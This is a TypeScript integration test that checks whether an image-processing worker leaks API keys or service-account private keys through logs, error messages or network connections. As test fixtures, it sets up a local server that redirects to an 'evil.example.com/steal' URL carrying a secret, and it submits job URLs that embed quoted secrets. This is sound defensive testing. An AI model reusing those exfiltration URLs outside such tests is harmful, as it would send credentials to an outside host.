import { generateKeyPairSync } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { DocumentData } from 'firebase-admin/firestore';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { characterPicture } from '../support/images.js';
import { BUCKET, TEST_API_KEY, startStack, type Stack } from '../support/stack.js';
import { statusOf, until, waitForDoc } from '../support/wait.js';
import { spawnWorker, type WorkerProcess } from '../support/worker-process.js';

/** A throwaway service account: a real RSA key, so firebase-admin accepts it as a credential. */
function fakeServiceAccount(projectId: string) {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  const account = {
    type: 'service_account',
    project_id: projectId,
    private_key_id: '0123456789abcdef0123456789abcdef01234567',
    private_key: pem,
    client_email: `showcase-worker@${projectId}.iam.gserviceaccount.com`,
    client_id: '109876543210987654321',
    token_uri: 'https://oauth2.googleapis.com/token',
  };
  const base64 = Buffer.from(JSON.stringify(account)).toString('base64');
  // Every line of the key body: a partial leak is still a leak.
  const lines = pem.split('\n').filter((l) => l.length >= 16 && !l.startsWith('-----'));
  return { pem, base64, lines };
}

const WRONG_KEY = 'cd-wrong-key-fedcba9876543210';
/** How test/support/net-spy.ts reports a connection (not imported: it would patch this process). */
const NET_SPY_PREFIX = '{"netSpy":';

describe('secrets never leave the worker', () => {
  let stack: Stack;
  let account: ReturnType<typeof fakeServiceAccount>;
  let redirector: Server;
  let redirectorHost: string;
  let closedHost: string;
  const workers: WorkerProcess[] = [];

  beforeAll(async () => {
    stack = await startStack();
    account = fakeServiceAccount(stack.projectId);
    // An allowed host that redirects to a URL quoting the secrets (a Location header is text
    // the worker does not control, and may end up in an error).
    redirector = createServer((req, res) => {
      const key = new URL(req.url ?? '/', 'http://x').searchParams.get('k') ?? '';
      res.writeHead(302, { location: `https://evil.example.com/steal?k=${key}` }).end();
    });
    await new Promise<void>((r) => redirector.listen(0, '127.0.0.1', r));
    redirectorHost = `127.0.0.1:${(redirector.address() as AddressInfo).port}`;
    // An allowed host:port where nothing listens: a network error quoting the address.
    const closed = createServer();
    await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
    closedHost = `127.0.0.1:${(closed.address() as AddressInfo).port}`;
    await new Promise<void>((r) => closed.close(() => r()));
  });

  afterAll(async () => {
    for (const w of workers) w.kill('SIGKILL');
    await stack?.close();
    redirector?.closeAllConnections();
    await new Promise<void>((r) => (redirector ? redirector.close(() => r()) : r()));
  });

  /** The worker as on a dyno: production, JSON logs at debug level, a service account key. */
  async function startWorker(apiKey: string): Promise<WorkerProcess> {
    const env: Record<string, string> = {
      ...stack.env,
      NODE_ENV: 'production',
      LOG_LEVEL: 'debug',
      CLIPDROP_API_KEY: apiKey,
      FIREBASE_SERVICE_ACCOUNT_KEY: account.base64,
      GOOGLE_APPLICATION_CREDENTIALS: '',
      SOURCE_ALLOWED_HOSTS: [stack.images.host, redirectorHost, closedHost].join(','),
      RETRY_MAX_TRIES: '2',
      RETRY_BASE_MS: '50',
      RETRY_MAX_MS: '100',
      LEASE_MS: '10000',
      SHUTDOWN_TIMEOUT_MS: '3000',
    };
    const proc = spawnWorker(env, { nodeArgs: ['--import', './test/support/net-spy.ts'] });
    workers.push(proc);
    await proc.waitForLog((l) => l.message === 'worker.started', 30_000);
    return proc;
  }

  async function stop(proc: WorkerProcess): Promise<void> {
    proc.kill('SIGTERM');
    expect((await proc.exited).code).toBe(0);
  }

  async function settled(id: string): Promise<DocumentData | undefined> {
    return waitForDoc(
      stack.db,
      `characters/${id}`,
      (d) => ['complete', 'failed'].includes(statusOf(d) ?? ''),
      30_000,
    );
  }

  it('runs good and failing jobs with a service account, and leaks nothing', async () => {
    const secrets = [TEST_API_KEY, WRONG_KEY, account.base64, account.pem, ...account.lines];
    const [pkLine = ''] = account.lines;
    const quoted = encodeURIComponent(`${TEST_API_KEY} ${pkLine}`);
    stack.images.set('/good.png', await characterPicture(48, 40, 'png', 3));
    stack.storage.putObject(
      BUCKET,
      'raw-uploads/user-1/sec-gs.png',
      await characterPicture(40, 32),
    );
    stack.storage.putObject(
      BUCKET,
      'raw-uploads/user-1/sec-401.png',
      await characterPicture(40, 32, 'png', 4),
    );

    // Worker A has the right ClipDrop key.
    const a = await startWorker(TEST_API_KEY);
    const jobs: Record<string, { imageUrl: string; userId?: string; code?: string }> = {
      'sec-good-gs': { imageUrl: `gs://${BUCKET}/raw-uploads/user-1/sec-gs.png` },
      'sec-good-http': { imageUrl: stack.images.url('/good.png') },
      // Errors about URLs that quote the secrets.
      'sec-404': {
        imageUrl: stack.images.url(`/missing.png?k=${quoted}`),
        code: 'SOURCE_NOT_FOUND',
      },
      'sec-forbidden': {
        imageUrl: `https://evil.example.com/${quoted}?k=${quoted}`,
        code: 'SOURCE_URL_FORBIDDEN',
      },
      'sec-redirect': {
        imageUrl: `http://${redirectorHost}/r?k=${quoted}`,
        code: 'SOURCE_URL_FORBIDDEN',
      },
      'sec-refused': {
        imageUrl: `http://${closedHost}/a.png?k=${quoted}`,
        code: 'NETWORK',
      },
      'sec-invalid': {
        imageUrl: stack.images.url('/good.png'),
        userId: `../${TEST_API_KEY}`,
        code: 'INVALID_DOCUMENT',
      },
    };
    await Promise.all(
      Object.entries(jobs).map(([id, j]) =>
        stack.click(id, { imageUrl: j.imageUrl, ...(j.userId ? { userId: j.userId } : {}) }),
      ),
    );
    const docs = new Map<string, DocumentData | undefined>();
    for (const id of Object.keys(jobs)) docs.set(id, await settled(id));
    await stop(a);

    // Worker B has a key ClipDrop refuses: 401. (The worker pauses on an account-wide refusal
    // rather than failing the job, so this waits for the refusal itself, then stops.)
    const b = await startWorker(WRONG_KEY);
    await stack.click('sec-401', { imageUrl: `gs://${BUCKET}/raw-uploads/user-1/sec-401.png` });
    await until(() => (stack.clipdrop.stats.responses['401'] ?? 0) >= 1, 30_000, 'a 401');
    await b.waitForLog((l) => JSON.stringify(l).includes('401'), 10_000);
    await stop(b);
    docs.set('sec-401', (await stack.db.doc('characters/sec-401').get()).data());

    const error401 = (docs.get('sec-401')?.visuals as Record<string, unknown>)
      .showcaseProcessingError;
    for (const secret of secrets) expect(JSON.stringify(error401 ?? {})).not.toContain(secret);

    for (const [id, job] of Object.entries(jobs)) {
      const visuals = docs.get(id)?.visuals as Record<string, unknown>;
      const error = visuals.showcaseProcessingError as Record<string, unknown> | undefined;
      if (!job.code) {
        expect(statusOf(docs.get(id)), `${id}: ${JSON.stringify(error)}`).toBe('complete');
        continue;
      }
      expect(statusOf(docs.get(id)), id).toBe('failed');
      expect(error?.code, id).toBe(job.code);
      // Short, user-safe, stable: no URL, no key, no stack, no SDK text.
      const message = String(error?.message);
      expect(message.length, id).toBeLessThanOrEqual(120);
      expect(message, id).not.toMatch(/https?:|127\.0\.0\.1|evil|\n|\bat\b.*\(|Error:/);
      const written = JSON.stringify(error);
      for (const secret of secrets) expect(written.includes(secret), id).toBe(false);
    }

    // Every line either process wrote: stdout (the log drain) and stderr.
    const output = [a, b].flatMap((p) => [...p.rawLines, ...p.stderr]);
    const logLines = [a, b].flatMap((p) => p.rawLines);
    expect(logLines.length).toBeGreaterThan(50);
    const leaks = output.filter((line) =>
      secrets.some((s) => line.includes(s) || line.includes(encodeURIComponent(s))),
    );
    expect(leaks).toEqual([]);
    // And the worker said why each job failed, to operators, without the secrets.
    const failed = [a, b].flatMap((p) => p.lines).filter((l) => l.message === 'job.failed');
    expect(new Set(failed.map((l) => l.code))).toEqual(
      new Set(Object.values(jobs).flatMap((j) => (j.code ? [j.code] : []))),
    );

    // With both emulator hosts set, the service account is never used to reach Google: every
    // socket either process opened went to a loopback address (emulators and stand-ins).
    const connections = [a, b].flatMap((p) =>
      p.stderr
        .join('')
        .split('\n')
        .filter((l) => l.startsWith(NET_SPY_PREFIX))
        .map((l) => (JSON.parse(l) as { netSpy: { host: string; port: number } }).netSpy),
    );
    const hosts = new Set(connections.map((c) => `${c.host}:${c.port}`));
    expect(hosts).toContain(stack.emulatorHost);
    expect(hosts).toContain(stack.storage.host);
    expect([...hosts].filter((h) => !/^(127\.0\.0\.1|localhost|\[?::1\]?):/.test(h))).toEqual([]);
  }, 120_000);
});
